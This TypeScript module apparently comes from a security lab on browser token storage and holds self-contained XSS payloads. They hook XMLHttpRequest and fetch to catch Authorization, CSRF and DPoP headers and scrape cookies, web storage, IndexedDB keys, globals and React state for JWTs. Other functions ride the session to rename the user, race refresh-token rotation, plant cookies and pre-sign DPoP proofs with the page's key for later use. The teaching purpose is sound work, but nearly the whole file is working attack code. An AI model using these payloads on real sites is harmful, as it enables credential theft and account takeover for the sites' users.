import type { Finding } from './analysis';

// The lab's XSS payloads: what a script that got into the page does. Each is self-contained
// (globals and its argument only, no imports and no helpers from this file), as a script injected
// into the page would be, with no access to the app's modules.

/**
 * Why the injected-script cards still run although the page's policy refuses injected script
 * ("Can a script get in?" shows it, sink by sink): they take it that one got in anyway.
 */
export const injectionPremise =
  "A script got into the page anyway. The page’s policy refuses injected script in every form (“Can a script get in?” shows it, sink by sink), so this card runs its script as code the page loads from its own origin: what a compromised dependency served from 'self' is, and what a mistake in the policy lets in. That is why what such a script can read, steal and replay still matters.";

/**
 * Runs `payload(arg)` as a script that got into this page: as code the page loaded from its own
 * origin (a compromised dependency), which the page policy lets run. A script injected any other
 * way (an inline <script>, a string handed to a sink) is what the policy refuses.
 */
export function inject<A, R>(payload: (arg: A) => Promise<R>, arg: A): Promise<R> {
  return payload(arg);
}

export interface ProbeAnswer {
  what: string;
  status: number | null;
  note?: string;
}

export interface Loot {
  findings: Finding[];
  /** Requests the script itself sent, and what it saw of their answers. */
  probes: ProbeAnswer[];
  /** Where it looked, and how much it went through. */
  searched: string[];
}

export interface ReadArg {
  /** The API's origin: the requests whose headers are worth catching. */
  api: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
  /** How long the network hooks wait for the app's next request. */
  waitMs: number;
}

/**
 * Every way a script in the page can come by a credential: what the page's storage and cookies
 * hold, what the app keeps where script can reach it (globals, the DOM, React's state), the app's
 * own requests (hooking XMLHttpRequest and fetch catches their headers and answers), and asking
 * the API itself with the page's cookies (a CSRF token, a refresh).
 */
export async function readEverything(arg: ReadArg): Promise<Loot> {
  const findings: Finding[] = [];
  const probes: ProbeAnswer[] = [];
  const searched: string[] = [];
  const jwtPattern = /eyJ[\w-]{8,}\.[\w-]{8,}\.[\w-]*/g;
  const add = (source: string, kind: Finding['kind'], value: string) => {
    if (!findings.some((found) => found.source === source && found.value === value)) findings.push({ source, kind, value });
  };
  const scanText = (source: string, text: string) => {
    for (const match of text.match(jwtPattern) ?? []) add(source, 'jwt', match);
  };
  const isApi = (url: string) => {
    try {
      return new URL(url, location.href).origin === arg.api;
    } catch {
      return false;
    }
  };

  // 1. Hooks first, so that the app's next request is caught whatever else happens.
  const xhrProto = XMLHttpRequest.prototype;
  // Kept to be called with .call(this), and put back when done.
  // eslint-disable-next-line @typescript-eslint/unbound-method
  const original = { open: xhrProto.open, setRequestHeader: xhrProto.setRequestHeader, send: xhrProto.send, fetch: window.fetch };
  const xhrUrls = new WeakMap<XMLHttpRequest, string>();
  let caughtRequest: () => void = () => undefined;
  const nextRequest = new Promise<void>((resolve) => (caughtRequest = resolve));
  const watchHeader = (source: string, name: string, value: string) => {
    if (name.toLowerCase() === 'authorization') add(source, 'authorization', value);
    if (name.toLowerCase() === arg.csrfHeader.toLowerCase()) add(source, 'csrf-token', value);
    if (name.toLowerCase() === 'dpop') add(source, 'proof', value);
  };
  xhrProto.open = function (this: XMLHttpRequest, method: string, url: string | URL, ...rest: unknown[]) {
    xhrUrls.set(this, String(url));
    (original.open as (...args: unknown[]) => void).call(this, method, url, ...rest);
  };
  xhrProto.setRequestHeader = function (this: XMLHttpRequest, name: string, value: string) {
    if (isApi(xhrUrls.get(this) ?? '')) watchHeader('XMLHttpRequest hook (request headers)', name, value);
    original.setRequestHeader.call(this, name, value);
  };
  xhrProto.send = function (this: XMLHttpRequest, body?: Document | XMLHttpRequestBodyInit | null) {
    if (isApi(xhrUrls.get(this) ?? '')) {
      this.addEventListener('loadend', () => {
        if (this.responseType === '' || this.responseType === 'text') scanText('XMLHttpRequest hook (answers)', this.responseText);
        caughtRequest();
      });
    }
    original.send.call(this, body);
  };
  window.fetch = async (input: RequestInfo | URL, init?: RequestInit) => {
    const url = input instanceof Request ? input.url : String(input);
    if (isApi(url)) {
      new Headers(input instanceof Request ? input.headers : init?.headers).forEach((value, name) => watchHeader('fetch hook (request headers)', name, value));
    }
    const response = await original.fetch(input, init);
    if (isApi(url)) {
      scanText('fetch hook (answers)', await response.clone().text().catch(() => ''));
      caughtRequest();
    }
    return response;
  };
  const unhook = () => {
    Object.assign(xhrProto, { open: original.open, setRequestHeader: original.setRequestHeader, send: original.send });
    window.fetch = original.fetch;
  };

  try {
    // 2. Cookies script can see.
    searched.push('document.cookie');
    for (const pair of document.cookie.split(';')) if (pair.trim()) add('document.cookie', 'cookie', pair.trim());

    // 3. Web storage and IndexedDB.
    for (const [name, storage] of [['localStorage', localStorage], ['sessionStorage', sessionStorage]] as const) {
      searched.push(`${name} (${storage.length} entries)`);
      for (let i = 0; i < storage.length; i++) {
        const key = storage.key(i) ?? '';
        const value = storage.getItem(key) ?? '';
        add(name, 'storage', `${key}=${value}`);
        scanText(name, value);
      }
    }
    if ('databases' in indexedDB) {
      const names = (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean);
      let records = 0;
      // Every record of every store: tokens in text, and keys, which script may try to export.
      const inspectValue = async (where: string, value: unknown, depth: number): Promise<void> => {
        if (depth > 4 || value === null || value === undefined) return;
        if (typeof value === 'string') return scanText(`IndexedDB ${where}`, value);
        if (value instanceof CryptoKey) {
          if (value.type === 'public') return; // public halves export by design: nothing secret
          const described = `${where}: a ${value.type} ${value.algorithm.name} CryptoKey, extractable: ${String(value.extractable)}, usages: ${value.usages.join(', ')}`;
          try {
            const exported = await crypto.subtle.exportKey('jwk', value);
            const all: Finding = { source: `IndexedDB ${where}`, kind: 'key', value: `${described}; crypto.subtle.exportKey gave its bytes (${Object.keys(exported).join(', ')})`, exported: true };
            findings.push(all);
          } catch (error) {
            const why = error instanceof Error ? `${error.name}: ${error.message}` : String(error);
            findings.push({ source: `IndexedDB ${where}`, kind: 'key', value: `${described}; crypto.subtle.exportKey refused (${why})`, exported: false });
          }
          return;
        }
        if (typeof value === 'object') for (const child of Object.values(value)) await inspectValue(where, child, depth + 1);
      };
      for (const name of names) {
        const db = await new Promise<IDBDatabase | null>((resolve) => {
          const request = indexedDB.open(name);
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => resolve(null);
        });
        if (!db) continue;
        try {
          for (const storeName of Array.from(db.objectStoreNames)) {
            const entries = await new Promise<[IDBValidKey, unknown][]>((resolve) => {
              const out: [IDBValidKey, unknown][] = [];
              const cursor = db.transaction(storeName, 'readonly').objectStore(storeName).openCursor();
              cursor.onsuccess = () => {
                const at = cursor.result;
                if (!at || out.length >= 50) return resolve(out);
                out.push([at.key, at.value]);
                at.continue();
              };
              cursor.onerror = () => resolve(out);
            });
            records += entries.length;
            for (const [key, value] of entries) await inspectValue(`${name}/${storeName}[${JSON.stringify(key)}]`, value, 0);
          }
        } finally {
          db.close();
        }
      }
      searched.push(`IndexedDB (${names.length} databases${names.length ? `: ${names.join(', ')}` : ''}; ${records} records read)`);
    }

    // 4. The app's memory, as far as script can reach it: walk objects (never calling functions).
    let visited = 0;
    const seen = new WeakSet<object>();
    const walk = (source: string, value: unknown, depth: number) => {
      if (visited > 60_000 || depth > 7) return;
      visited++;
      if (typeof value === 'string') {
        if (value.length > 20) scanText(source, value);
        return;
      }
      if (typeof value !== 'object' || value === null || value instanceof Node || value instanceof Window) return;
      if (seen.has(value)) return;
      seen.add(value);
      let keys: string[];
      try {
        keys = Object.keys(value);
      } catch {
        return;
      }
      for (const key of keys) {
        let child: unknown;
        try {
          child = (value as Record<string, unknown>)[key];
        } catch {
          continue;
        }
        if (typeof child !== 'function') walk(source, child, depth + 1);
      }
      if (value instanceof Map) for (const [, child] of value) walk(source, child, depth + 1);
      if (value instanceof Set) for (const child of value) walk(source, child, depth + 1);
    };

    // Globals the app added: everything on window that a fresh window does not have.
    const blank = document.createElement('iframe');
    blank.style.display = 'none';
    document.body.append(blank);
    const standard = new Set(Object.getOwnPropertyNames(blank.contentWindow ?? {}));
    blank.remove();
    const globals = Object.getOwnPropertyNames(window).filter((name) => !standard.has(name));
    for (const name of globals) {
      try {
        walk('window globals', (window as unknown as Record<string, unknown>)[name], 0);
      } catch {
        // a getter that throws
      }
    }
    searched.push(`window globals (${globals.length} the app added)`);

    // The DOM: its markup, and the values typed into its fields.
    scanText('the DOM', document.documentElement.outerHTML);
    for (const field of document.querySelectorAll('input, textarea')) scanText('the DOM', (field as HTMLInputElement).value);
    searched.push('the DOM (markup and field values)');

    // React's state: every DOM node it renders points to its component tree.
    const container = document.getElementById('root');
    const rootKey = container ? Object.keys(container).find((key) => key.startsWith('__reactContainer$')) : undefined;
    let fibers = 0;
    if (container && rootKey) {
      type Fiber = { child: Fiber | null; sibling: Fiber | null; memoizedProps: unknown; memoizedState: unknown };
      const stack: Fiber[] = [(container as unknown as Record<string, Fiber>)[rootKey]!];
      while (stack.length > 0 && fibers < 20_000) {
        const fiber = stack.pop()!;
        fibers++;
        walk("React's component state", fiber.memoizedProps, 0);
        walk("React's component state", fiber.memoizedState, 0);
        if (fiber.sibling) stack.push(fiber.sibling);
        if (fiber.child) stack.push(fiber.child);
      }
    }
    searched.push(`React's component tree (${fibers} components, ${visited} values)`);

    // 5. The app's next request, through the hooks (the lab makes the app send one now).
    await Promise.race([nextRequest, new Promise((resolve) => setTimeout(resolve, arg.waitMs))]);
    searched.push('the app’s requests and answers (XMLHttpRequest and fetch hooked)');
  } finally {
    unhook();
  }

  // 6. Ask the API, with the page's cookies: the browser attaches them, and CORS lets this origin read the answers.
  let csrfToken: string | null = null;
  try {
    const response = await fetch(arg.api + arg.csrfPath, { credentials: 'include' });
    probes.push({ what: `GET ${arg.csrfPath}`, status: response.status });
    const body: unknown = await response.json().catch(() => null);
    if (response.ok && typeof body === 'object' && body !== null && 'csrfToken' in body && typeof body.csrfToken === 'string') {
      csrfToken = body.csrfToken;
      add(`GET ${arg.csrfPath}`, 'csrf-token', csrfToken);
    }
  } catch (error) {
    probes.push({ what: `GET ${arg.csrfPath}`, status: null, note: String(error) });
  }
  try {
    const headers: Record<string, string> = csrfToken ? { [arg.csrfHeader]: csrfToken } : {};
    const response = await fetch(arg.api + arg.refreshPath, { method: 'POST', credentials: 'include', headers });
    const text = await response.text();
    probes.push({ what: `POST ${arg.refreshPath}`, status: response.status, ...(response.ok && { note: 'read the answer' }) });
    if (response.ok) scanText(`POST ${arg.refreshPath}`, text);
  } catch (error) {
    probes.push({ what: `POST ${arg.refreshPath}`, status: null, note: String(error) });
  }
  return { findings, probes, searched };
}

export interface RideArg {
  api: string;
  mePath: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
  /** Where the API wants DPoP proofs: their htu before the path (GET /api/config's dpop.origin). */
  proofOrigin: string;
  name: string;
}

export interface RideReport {
  steps: ProbeAnswer[];
  renamed: boolean;
}

/**
 * Session riding: no theft, just the user's own browser acting for the script. It renames the
 * user with whatever the page's origin gets: the cookies the browser attaches, a CSRF token the
 * API hands this origin, and if that is not enough, an access token from a refresh; where the
 * API wants DPoP proofs, signed with the page's own key, which script can use if not export.
 */
export async function ride(arg: RideArg): Promise<RideReport> {
  const steps: ProbeAnswer[] = [];
  const credentials: Record<string, string> = {};
  let nonce: string | null = null;
  const call = async (what: string, url: string, init: RequestInit): Promise<{ status: number | null; body: unknown; dpop: boolean }> => {
    try {
      const response = await fetch(url, { credentials: 'include', ...init });
      const body: unknown = await response.json().catch(() => null);
      nonce = response.headers.get('DPoP-Nonce') ?? nonce;
      steps.push({ what, status: response.status });
      return { status: response.status, body, dpop: /^DPoP\b/i.test(response.headers.get('WWW-Authenticate') ?? '') };
    } catch (error) {
      steps.push({ what, status: null, note: String(error) });
      return { status: null, body: null, dpop: false };
    }
  };
  // DPoP: the page's key pair, wherever the app keeps it in IndexedDB, and proofs signed with it.
  const b64 = (bytes: ArrayBuffer | Uint8Array) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const text = (value: string) => new TextEncoder().encode(value);
  const pageKey = async (): Promise<CryptoKeyPair | null> => {
    const names = 'databases' in indexedDB ? (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean) : [];
    for (const name of names) {
      const db = await new Promise<IDBDatabase | null>((resolve) => {
        const request = indexedDB.open(name);
        request.onsuccess = () => resolve(request.result);
        request.onerror = () => resolve(null);
      });
      for (const storeName of Array.from(db?.objectStoreNames ?? [])) {
        const value = await new Promise<unknown>((resolve) => {
          const request = db!.transaction(storeName, 'readonly').objectStore(storeName).get(arg.api);
          request.onsuccess = () => resolve(request.result);
          request.onerror = () => resolve(undefined);
        });
        const keys = typeof value === 'object' && value !== null && 'keys' in value ? value.keys : value;
        if (typeof keys === 'object' && keys !== null && 'privateKey' in keys && keys.privateKey instanceof CryptoKey && 'publicKey' in keys && keys.publicKey instanceof CryptoKey) {
          db?.close();
          return keys as CryptoKeyPair;
        }
      }
      db?.close();
    }
    return null;
  };
  const prove = async (pair: CryptoKeyPair, method: string, path: string, token?: string) => {
    const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', pair.publicKey);
    const claims = {
      jti: crypto.randomUUID(),
      htm: method,
      htu: arg.proofOrigin + path,
      iat: Math.floor(Date.now() / 1000),
      ...(nonce && { nonce }),
      ...(token && { ath: b64(await crypto.subtle.digest('SHA-256', text(token))) }),
    };
    const input = `${b64(text(JSON.stringify({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } })))}.${b64(text(JSON.stringify(claims)))}`;
    return `${input}.${b64(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, pair.privateKey, text(input)))}`;
  };
  const field = (body: unknown, name: string) =>
    typeof body === 'object' && body !== null && name in body ? (body as Record<string, unknown>)[name] : undefined;

  const csrf = await call(`GET ${arg.csrfPath}`, arg.api + arg.csrfPath, {});
  const csrfToken = field(csrf.body, 'csrfToken');
  if (typeof csrfToken === 'string') credentials[arg.csrfHeader] = csrfToken;
  const patch = () =>
    call(`PATCH ${arg.mePath}`, arg.api + arg.mePath, {
      method: 'PATCH',
      headers: { ...credentials, 'Content-Type': 'application/json' },
      body: JSON.stringify({ name: arg.name }),
    });
  let renamed = (await patch()).status === 200;
  if (!renamed) {
    let refresh = await call(`POST ${arg.refreshPath}`, arg.api + arg.refreshPath, { method: 'POST', headers: credentials });
    // Refused for want of a proof by the login's key: the key is in this page, usable by any script.
    const pair = refresh.dpop ? await pageKey() : null;
    if (pair) {
      for (let attempt = 0; attempt < 2 && !(refresh.status === 200); attempt++) {
        const proof = await prove(pair, 'POST', arg.refreshPath);
        refresh = await call(`POST ${arg.refreshPath} with a proof by the page’s key`, arg.api + arg.refreshPath, { method: 'POST', headers: { ...credentials, DPoP: proof } });
      }
    }
    const token = field(refresh.body, 'accessToken');
    if (typeof token === 'string') {
      const scheme = field(refresh.body, 'tokenType');
      credentials.Authorization = `${typeof scheme === 'string' ? scheme : 'Bearer'} ${token}`;
      if (pair) credentials.DPoP = await prove(pair, 'PATCH', arg.mePath, token);
      renamed = (await patch()).status === 200;
    }
  }
  return { steps, renamed };
}

export interface RefreshTwiceArg {
  api: string;
  csrfPath: string;
  refreshPath: string;
  csrfHeader: string;
}

/**
 * Presents the page's refresh cookie twice at once, as a thief and the owner would when both
 * hold the same token (or two tabs that skip the lock): the server sees a rotated token again.
 * "At once" is the browser's call: it reads the cookie jar as each request leaves, so a second
 * request that leaves after the first answer (a slow CORS preflight will do it) carries the
 * rotated cookie, and both are admitted. The caller tries again.
 */
export async function refreshTwice(arg: RefreshTwiceArg): Promise<ProbeAnswer[]> {
  const headers: Record<string, string> = {};
  try {
    const response = await fetch(arg.api + arg.csrfPath, { credentials: 'include' });
    const body: unknown = await response.json().catch(() => null);
    if (response.ok && typeof body === 'object' && body !== null && 'csrfToken' in body && typeof body.csrfToken === 'string') {
      headers[arg.csrfHeader] = body.csrfToken;
    }
  } catch {
    // a mode without CSRF tokens: the refresh goes without
  }
  const once = async (n: number): Promise<ProbeAnswer> => {
    try {
      const response = await fetch(arg.api + arg.refreshPath, { method: 'POST', credentials: 'include', headers });
      const body: unknown = await response.json().catch(() => null);
      const error = typeof body === 'object' && body !== null && 'error' in body ? (body.error as { code?: unknown }).code : undefined;
      return { what: `POST ${arg.refreshPath} (#${n})`, status: response.status, ...(typeof error === 'string' && { note: error }) };
    } catch (error) {
      return { what: `POST ${arg.refreshPath} (#${n})`, status: null, note: String(error) };
    }
  };
  return Promise.all([once(1), once(2)]);
}

export interface PlantArg {
  name: string;
  value: string;
}

/** Sets a cookie from script, as an attacker who runs script on the site (or a sibling of it) can. */
export function plantCookie(arg: PlantArg): Promise<{ planted: boolean }> {
  document.cookie = `${arg.name}=${arg.value}; path=/; SameSite=Lax`;
  return Promise.resolve({ planted: document.cookie.split('; ').includes(`${arg.name}=${arg.value}`) });
}

export interface SignAheadArg {
  /** The API's origin, for the script's own request for a nonce. */
  api: string;
  configPath: string;
  /** What the API takes as the proofs' htu before the path (GET /api/config's dpop.origin). */
  proofOrigin: string;
  htm: string;
  path: string;
  /** The token the proofs are for (their ath): the one the script caught; null for proofs with no token. */
  token: string | null;
  /** Given, the script first refreshes with the page's key and cookie, for the freshest token there is. */
  refreshPath?: string;
  count: number;
}

export interface SignedAhead {
  proofs: string[];
  /** Where the script found the key, and what it is. */
  key: string | null;
  nonce: string | null;
  /** When they were signed (their iat), by this page's clock. */
  signedAt: number;
  /** The token they carry the hash of. */
  token: string | null;
  error?: string;
}

/**
 * DPoP's limit, from inside the page: the script cannot export the page's key, but it can use it.
 * It finds the key pair in IndexedDB, asks the API for a nonce (any answer carries one), and
 * signs proofs for later requests, each with a jti of its own, to be shipped out with the token.
 */
export async function signAhead(arg: SignAheadArg): Promise<SignedAhead> {
  const b64 = (bytes: ArrayBuffer | Uint8Array) =>
    btoa(String.fromCharCode(...new Uint8Array(bytes))).replace(/\+/g, '-').replace(/\//g, '_').replace(/=+$/, '');
  const text = (value: string) => new TextEncoder().encode(value);
  const encode = (value: unknown) => b64(text(JSON.stringify(value)));
  const isPair = (value: unknown): value is CryptoKeyPair =>
    typeof value === 'object' && value !== null && 'privateKey' in value && value.privateKey instanceof CryptoKey && 'publicKey' in value && value.publicKey instanceof CryptoKey;
  const findPair = (value: unknown, depth: number): CryptoKeyPair | null => {
    if (isPair(value)) return value;
    if (depth > 3 || typeof value !== 'object' || value === null) return null;
    for (const child of Object.values(value)) {
      const found = findPair(child, depth + 1);
      if (found) return found;
    }
    return null;
  };
  // The page's key pair, from IndexedDB: the record of this API's origin if there is one.
  let pair: CryptoKeyPair | null = null;
  let where: string | null = null;
  const names = 'databases' in indexedDB ? (await indexedDB.databases()).map((db) => db.name ?? '').filter(Boolean) : [];
  for (const name of names) {
    const db = await new Promise<IDBDatabase | null>((resolve) => {
      const request = indexedDB.open(name);
      request.onsuccess = () => resolve(request.result);
      request.onerror = () => resolve(null);
    });
    if (!db) continue;
    for (const storeName of Array.from(db.objectStoreNames)) {
      const entries = await new Promise<[IDBValidKey, unknown][]>((resolve) => {
        const out: [IDBValidKey, unknown][] = [];
        const cursor = db.transaction(storeName, 'readonly').objectStore(storeName).openCursor();
        cursor.onsuccess = () => {
          const at = cursor.result;
          if (!at || out.length >= 50) return resolve(out);
          out.push([at.key, at.value]);
          at.continue();
        };
        cursor.onerror = () => resolve(out);
      });
      for (const [key, value] of entries) {
        const found = findPair(value, 0);
        if (found && (!pair || key === arg.api)) {
          pair = found;
          where = `IndexedDB ${name}/${storeName}[${JSON.stringify(key)}]`;
        }
      }
    }
    db.close();
  }
  if (!pair) return { proofs: [], key: null, nonce: null, signedAt: Date.now(), token: arg.token, error: 'no key pair in IndexedDB' };
  const keys = pair;
  let nonce: string | null = null;
  try {
    nonce = (await fetch(arg.api + arg.configPath)).headers.get('DPoP-Nonce');
  } catch {
    // no nonce: the proofs go without, and say so when refused
  }
  const { kty, crv, x, y } = await crypto.subtle.exportKey('jwk', keys.publicKey);
  const header = encode({ typ: 'dpop+jwt', alg: 'ES256', jwk: { kty, crv, x, y } });
  const sign = async (htm: string, path: string, iat: number, token: string | null) => {
    const ath = token === null ? null : b64(await crypto.subtle.digest('SHA-256', text(token)));
    const input = `${header}.${encode({ jti: crypto.randomUUID(), htm, htu: arg.proofOrigin + path, iat, ...(nonce && { nonce }), ...(ath && { ath }) })}`;
    return `${input}.${b64(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, keys.privateKey, text(input)))}`;
  };
  let token = arg.token;
  if (arg.refreshPath !== undefined) {
    // The freshest token there is: a refresh, with the page's cookie and a proof by its key.
    for (let attempt = 0; attempt < 2; attempt++) {
      const response = await fetch(arg.api + arg.refreshPath, {
        method: 'POST',
        credentials: 'include',
        headers: { DPoP: await sign('POST', arg.refreshPath, Math.floor(Date.now() / 1000), null) },
      });
      nonce = response.headers.get('DPoP-Nonce') ?? nonce;
      const body: unknown = await response.json().catch(() => null);
      if (response.ok && typeof body === 'object' && body !== null && 'accessToken' in body && typeof body.accessToken === 'string') {
        token = body.accessToken;
        break;
      }
    }
  }
  const signedAt = Date.now();
  const proofs: string[] = [];
  for (let i = 0; i < arg.count; i++) proofs.push(await sign(arg.htm, arg.path, Math.floor(signedAt / 1000), token));
  const described = `${where ?? '?'}: a ${keys.privateKey.algorithm.name} key pair, private half extractable: ${String(keys.privateKey.extractable)}`;
  return { proofs, key: described, nonce, signedAt, token };
}
